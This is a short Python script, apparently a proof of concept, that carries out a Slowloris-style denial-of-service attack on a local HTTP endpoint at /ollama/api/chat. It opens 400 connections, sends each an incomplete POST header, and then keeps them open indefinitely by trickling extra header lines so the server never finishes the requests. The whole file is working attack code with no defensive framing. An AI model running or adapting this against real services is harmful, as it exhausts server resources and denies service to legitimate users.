# Hundreds of requests at the door that never get finished.
import socket, time
def run(query):
    held = []
    for _ in range(400):
        door = socket.create_connection(("127.0.0.1", 8377), timeout=1)
        door.sendall(b"POST /ollama/api/chat HTTP/1.1\r\nHost: x\r\n")
        held.append(door)
        if len(held) == 50: print("held 50", flush=True)
    while True:
        for door in held: door.sendall(b"X-a: b\r\n")
        time.sleep(0.2)
